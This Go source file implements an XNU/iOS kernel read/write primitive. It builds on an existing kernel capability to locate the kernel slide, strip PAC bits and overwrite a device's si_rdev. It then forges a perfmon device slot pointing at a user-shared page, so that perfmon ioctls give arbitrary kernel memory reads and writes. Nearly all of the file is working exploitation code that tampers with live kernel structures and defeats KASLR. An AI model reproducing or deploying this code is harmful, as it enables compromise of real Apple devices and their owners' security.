// Package perf installs a fast kernel read/write capability on top of a slower
// one by redirecting an open character device to the perfmon driver.
//
// Setup uses the active capability to retarget the device's si_rdev at the
// perfmon major and point a perfmon device slot at a page shared with user
// space. Reads then copy out through PERFMON_CTL_SPECIFY and each 8-byte write
// is a PERFMON_CTL_ADD_EVENT whose counter array is the destination.
package perf

import (
	"encoding/binary"

	"github.com/apex/log"
	"github.com/blacktop/go-macho/types"
	"github.com/blacktop/krkw/internal/utils"
	"github.com/blacktop/krkw/pkg/addrspace"
	"github.com/blacktop/krkw/pkg/host"
	"github.com/blacktop/krkw/pkg/kerr"
	"github.com/blacktop/krkw/pkg/kmem"
	"github.com/blacktop/krkw/pkg/translate"
	"github.com/blacktop/krkw/pkg/xnu/pac"
	"github.com/blacktop/krkw/pkg/xnu/profile"
	"github.com/pkg/errors"
)

// State is the channel lifecycle.
type State int

const (
	Uninstalled State = iota
	Installing
	Installed
	Uninstalling
	// Failed means install stopped after modifying kernel state. The
	// channel cannot be installed or uninstalled again.
	Failed
)

func (s State) String() string {
	switch s {
	case Uninstalled:
		return "uninstalled"
	case Installing:
		return "installing"
	case Installed:
		return "installed"
	case Uninstalling:
		return "uninstalling"
	case Failed:
		return "failed"
	default:
		return "unknown"
	}
}

// Config configures a Channel. Zero fields get the host defaults.
type Config struct {
	Host      host.Info
	Device    string
	Opener    Opener
	Allocator Allocator
	PageSize  int
}

// Channel is the perfmon kernel read/write capability.
type Channel struct {
	cfg   Config
	state State
	kc    *Addresses

	sw   *kmem.Switch
	prev kmem.ReadWriter
	dev  Device
	page Page

	sharedKaddr uint64
	slide       uint64
	kernelBase  uint64
	major       uint32
	rdevAddr    uint64
	savedRdev   [8]byte
	trans       *translate.State
}

// New returns an uninstalled Channel.
func New(cfg Config) *Channel {
	if cfg.Device == "" {
		cfg.Device = DefaultDevice
	}
	if cfg.Opener == nil {
		cfg.Opener = OpenDevice
	}
	if cfg.Allocator == nil {
		cfg.Allocator = MapPage
	}
	if cfg.PageSize == 0 {
		cfg.PageSize = DefaultPageSize()
	}
	return &Channel{cfg: cfg}
}

// State returns the lifecycle state.
func (c *Channel) State() State { return c.state }

// Supported reports whether the host's model and build have kernelcache addresses.
func (c *Channel) Supported() bool {
	_, ok := LookupKernelcache(c.cfg.Host.HardwareModel, c.cfg.Host.OSVersion)
	return ok
}

// Slide returns the kernel slide found during install.
func (c *Channel) Slide() uint64 { return c.slide }

// KernelBase returns the slid kernel base.
func (c *Channel) KernelBase() uint64 { return c.kernelBase }

// Translation returns the translation state loaded during install, or nil.
func (c *Channel) Translation() *translate.State { return c.trans }

// SavedRdev returns the si_rdev bytes the device had before install.
func (c *Channel) SavedRdev() [8]byte { return c.savedRdev }

// RdevAddr returns the kernel address of the redirected si_rdev.
func (c *Channel) RdevAddr() uint64 { return c.rdevAddr }

// SharedKaddr returns the kernel address of the shared page.
func (c *Channel) SharedKaddr() uint64 { return c.sharedKaddr }

// Install sets up the channel with the capability active in sw and swaps itself
// in. On an unsupported model or build it does nothing and returns nil.
func (c *Channel) Install(sw *kmem.Switch, prof *profile.Profile, as *addrspace.Context) error {
	if c.state != Uninstalled {
		return errors.Errorf("perfmon channel is %s", c.state)
	}
	kc, ok := LookupKernelcache(c.cfg.Host.HardwareModel, c.cfg.Host.OSVersion)
	if !ok || !prof.PerfSupported {
		log.WithFields(log.Fields{
			"model": c.cfg.Host.HardwareModel,
			"build": c.cfg.Host.OSVersion,
		}).Warn("perfmon channel not supported on this build")
		return nil
	}
	if as == nil || !as.HasKernel() {
		return kerr.Resolutionf("perfmon channel needs the kernel pmap")
	}

	log.WithField("kernelcache", kc.Name).Info("Installing perfmon channel")
	c.kc = kc
	c.state = Installing
	if mutated, err := c.install(sw, prof, as); err != nil {
		if mutated {
			c.state = Failed
			log.WithField("si_rdev", utils.Hex(c.rdevAddr)).Error("perfmon install left kernel state modified")
			return errors.Wrapf(err, "failed to install perfmon channel (si_rdev at %#x modified)", c.rdevAddr)
		}
		c.reset()
		return errors.Wrap(err, "failed to install perfmon channel")
	}
	c.state = Installed
	return nil
}

// install runs every read and check before the first kernel write. If it fails
// before that point the page and descriptor are released.
func (c *Channel) install(sw *kmem.Switch, prof *profile.Profile, as *addrspace.Context) (mutated bool, err error) {
	rw := sw.Active()
	strip := pac.Stripper{T1SZ: prof.T1SZ}
	defer func() {
		if err != nil && !mutated {
			c.release()
		}
	}()

	if c.page, err = c.cfg.Allocator(c.cfg.PageSize); err != nil {
		return mutated, err
	}
	if len(c.page.Bytes()) < SharedSize {
		return mutated, errors.Errorf("shared page too small: %d bytes", len(c.page.Bytes()))
	}
	// touch the page so it is resident before it is translated
	clear(c.page.Bytes())
	if c.dev, err = c.cfg.Opener(c.cfg.Device); err != nil {
		return mutated, err
	}

	fg, err := c.fileglob(rw, strip, prof, as.Current.Proc, c.dev.Fd())
	if err != nil {
		return mutated, err
	}
	if err := c.findSlide(rw, strip, fg); err != nil {
		return mutated, err
	}

	pages, err := translate.LoadPageArray(rw, translate.PageArraySources{
		VMPages:       c.kc.VMPages + c.slide,
		Begin:         c.kc.VMPageArrayBeginningAddr + c.slide,
		End:           c.kc.VMPageArrayEndingAddr + c.slide,
		FirstPhysPage: c.kc.VMFirstPhysPPNum + c.slide,
	}, translate.PageParams(translate.IOSMinKernelAddress, translate.IOSPointerSignificantBits))
	if err != nil {
		return mutated, err
	}

	if err := c.findRdev(rw, strip, fg); err != nil {
		return mutated, err
	}
	if err := c.findMajor(rw, strip); err != nil {
		return mutated, err
	}

	if c.trans, err = translate.Load(rw, translate.Sources{
		PtovTable:  c.kc.PtovTable + c.slide,
		VirtBase:   c.kc.GVirtBase + c.slide,
		PhysBase:   c.kc.GPhysBase + c.slide,
		PhysSize:   c.kc.GPhysSize + c.slide,
		UserPmap:   as.Current.Pmap,
		KernelPmap: as.Kernel.Pmap,
	}, prof.T1SZ); err != nil {
		return mutated, err
	}
	c.trans.Pages = pages

	pa, err := c.trans.VirtToPhys(rw, c.page.Addr())
	if err != nil {
		return mutated, err
	}
	if pa == 0 {
		return mutated, kerr.Validationf("shared page %#x is not mapped", c.page.Addr())
	}
	if c.sharedKaddr, err = c.trans.PhysToVirt(pa); err != nil {
		return mutated, err
	}
	utils.Indent(log.WithFields(log.Fields{
		"uaddr": utils.Hex(c.page.Addr()),
		"paddr": utils.Hex(pa),
		"kaddr": utils.Hex(c.sharedKaddr),
	}).Debug)("shared page")

	slot := c.kc.PerfmonDevices + c.slide
	var pmdv [deviceSize]byte
	if err := rw.KRead(slot, pmdv[:]); err != nil {
		return mutated, errors.Wrapf(err, "failed to read perfmon device at %#x", slot)
	}
	if lock := binary.LittleEndian.Uint64(pmdv[deviceMutexOffset:]); lock&deviceLockMask != deviceLockSentinel {
		return mutated, kerr.Validationf("perfmon device %#x: unexpected lock word %#x", slot, lock)
	}

	mutated = true
	if err := c.redirect(rw); err != nil {
		return mutated, err
	}
	if err := c.claim(rw, slot, pmdv); err != nil {
		return mutated, err
	}

	c.sw = sw
	c.prev = sw.Swap(c)
	return mutated, nil
}

func (c *Channel) fileglob(rw kmem.ReadWriter, strip pac.Stripper, prof *profile.Profile, proc uint64, fd int) (uint64, error) {
	ofiles, err := kmem.Get(rw, prof.Proc.FdOfiles, proc)
	if err != nil {
		return 0, err
	}
	fp, err := kmem.Read64(rw, strip.Strip(ofiles)+uint64(fd)*8)
	if err != nil {
		return 0, errors.Wrapf(err, "fd %d", fd)
	}
	fg, err := kmem.Get(rw, profile.FileprocFpGlob, strip.Strip(fp))
	if err != nil {
		return 0, err
	}
	return strip.Strip(fg), nil
}

func (c *Channel) findSlide(rw kmem.ReadWriter, strip pac.Stripper, fg uint64) error {
	ops, err := kmem.Get(rw, profile.FileglobFgOps, fg)
	if err != nil {
		return err
	}
	kqfilter, err := kmem.Get(rw, profile.FileopsKqfilter, strip.Strip(ops))
	if err != nil {
		return err
	}
	c.slide = strip.Strip(kqfilter) - c.kc.VnKqfilter
	c.kernelBase = c.kc.KernelBase + c.slide

	var hdr types.FileHeader
	if err := kmem.ReadStruct(rw, c.kernelBase, &hdr); err != nil {
		return err
	}
	if hdr.Magic != types.Magic64 || hdr.CPU != types.CPUArm64 {
		return kerr.Validationf("no arm64 mach-o header at kernel base %#x (magic %#x, cpu %#x)",
			c.kernelBase, uint32(hdr.Magic), uint32(hdr.CPU))
	}
	utils.Indent(log.WithFields(log.Fields{
		"slide": utils.Hex(c.slide),
		"base":  utils.Hex(c.kernelBase),
	}).Info)("Found kernel")
	return nil
}

func (c *Channel) findRdev(rw kmem.ReadWriter, strip pac.Stripper, fg uint64) error {
	vp, err := kmem.Get(rw, profile.FileglobFgData, fg)
	if err != nil {
		return err
	}
	si, err := kmem.Get(rw, profile.VnodeSpecinfo, strip.Strip(vp))
	if err != nil {
		return err
	}
	c.rdevAddr = profile.SpecinfoRdev.Addr(strip.Strip(si))
	if err := rw.KRead(c.rdevAddr, c.savedRdev[:]); err != nil {
		return errors.Wrapf(err, "failed to read si_rdev at %#x", c.rdevAddr)
	}
	return nil
}

func (c *Channel) findMajor(rw kmem.ReadWriter, strip pac.Stripper) error {
	var cdevsw [cdevswSlots][cdevswWords]uint64
	if err := kmem.ReadStruct(rw, c.kc.Cdevsw+c.slide, &cdevsw); err != nil {
		return err
	}
	open := c.kc.PerfmonDevOpen + c.slide
	for i := range cdevsw {
		// d_open is the first member
		if strip.Strip(cdevsw[i][0]) == open {
			if i != PerfmonMajor {
				return kerr.Validationf("perfmon_dev_open in cdevsw[%d], expected %d", i, PerfmonMajor)
			}
			c.major = uint32(i)
			return nil
		}
	}
	return kerr.Validationf("perfmon_dev_open %#x not in cdevsw", open)
}

// redirect points the device's si_rdev at the perfmon major.
func (c *Channel) redirect(rw kmem.ReadWriter) error {
	var rdev [8]byte
	binary.LittleEndian.PutUint32(rdev[0:], c.major<<24)
	binary.LittleEndian.PutUint32(rdev[4:], binary.LittleEndian.Uint32(c.savedRdev[4:])+1)
	if err := rw.KWrite(rdev[:], c.rdevAddr); err != nil {
		return errors.Wrapf(err, "failed to write si_rdev at %#x", c.rdevAddr)
	}
	return nil
}

// claim clears the perfmon device's lock owner, points its config at the
// shared page and marks it allocated, one 8-byte store at a time.
func (c *Channel) claim(rw kmem.ReadWriter, slot uint64, pmdv [deviceSize]byte) error {
	binary.LittleEndian.PutUint64(pmdv[deviceMutexOffset+8:], ^uint64(0))
	binary.LittleEndian.PutUint64(pmdv[deviceConfigOffset:], c.sharedKaddr)
	pmdv[deviceAllocatedOffset] = 1

	for off := 12; off <= 28; off += 4 {
		if err := rw.KWrite(pmdv[off:off+8], slot+uint64(off)); err != nil {
			return errors.Wrapf(err, "failed to write perfmon device at %#x", slot+uint64(off))
		}
		switch off {
		case 12:
			clear(pmdv[16:20])
		case 16:
			clear(pmdv[20:24])
		}
	}
	return nil
}

// reset forgets everything a failed install found.
func (c *Channel) reset() {
	c.state = Uninstalled
	c.kc = nil
	c.slide, c.kernelBase, c.major = 0, 0, 0
	c.rdevAddr, c.sharedKaddr = 0, 0
	c.savedRdev = [8]byte{}
	c.trans = nil
}

func (c *Channel) release() {
	if c.dev != nil {
		if err := c.dev.Close(); err != nil {
			log.WithError(err).Warn("failed to close device")
		}
		c.dev = nil
	}
	if c.page != nil {
		if err := c.page.Release(); err != nil {
			log.WithError(err).Warn("failed to release shared page")
		}
		c.page = nil
	}
}

// KRead copies len(p) bytes at kaddr into p.
func (c *Channel) KRead(kaddr uint64, p []byte) error {
	if c.state != Installed {
		return errors.Errorf("perfmon channel is %s", c.state)
	}
	if len(p) == 0 || len(p) > MaxReadSize {
		return errors.Errorf("perfmon read of %d bytes: size must be in [1, %d]", len(p), MaxReadSize)
	}
	b := c.page.Bytes()
	put(b, configOffset, perfmonConfig{
		Spec: perfmonSpec{Events: kaddr, EventCount: uint16(len(p))},
	})
	err := c.dev.Specify(p)
	clear(b[configOffset : configOffset+configSize])
	return errors.Wrapf(err, "failed to read %#x", kaddr)
}

// KWrite copies p to kaddr. len(p) must be a non-zero multiple of 8.
func (c *Channel) KWrite(p []byte, kaddr uint64) error {
	if c.state != Installed {
		return errors.Errorf("perfmon channel is %s", c.state)
	}
	if len(p) == 0 || len(p)%8 != 0 {
		return errors.Errorf("perfmon write of %d bytes: size must be a multiple of 8", len(p))
	}
	b := c.page.Bytes()
	defer clear(b[:SharedSize])
	for i := 0; i < len(p); i += 8 {
		clear(b[:SharedSize])
		put(b, configOffset, perfmonConfig{
			Source:   c.sharedKaddr + sourceOffset,
			Spec:     perfmonSpec{Events: c.sharedKaddr + eventOffset},
			Counters: kaddr + uint64(i),
		})
		put(b, sourceOffset, perfmonSource{
			Layout: perfmonLayout{CounterCount: 1, FixedOffset: 1},
		})
		if err := c.dev.AddEvent(binary.LittleEndian.Uint64(p[i:])); err != nil {
			return errors.Wrapf(err, "failed to write %#x", kaddr+uint64(i))
		}
	}
	return nil
}

// Uninstall swaps the previous capability back in and restores si_rdev. The
// perfmon device slot stays allocated.
func (c *Channel) Uninstall() error {
	switch c.state {
	case Uninstalled:
		return nil
	case Installed:
	case Failed:
		return errors.Errorf("perfmon channel failed to install: si_rdev at %#x was modified and not restored (original %x)",
			c.rdevAddr, c.savedRdev[:])
	default:
		return errors.Errorf("perfmon channel is %s", c.state)
	}
	log.Info("Uninstalling perfmon channel")
	c.state = Uninstalling

	c.sw.Swap(c.prev)
	if err := c.prev.KWrite(c.savedRdev[:], c.rdevAddr); err != nil {
		return errors.Wrapf(err, "failed to restore si_rdev at %#x", c.rdevAddr)
	}
	c.release()
	c.sw, c.prev = nil, nil
	c.state = Uninstalled
	return nil
}

var _ kmem.ReadWriter = (*Channel)(nil)
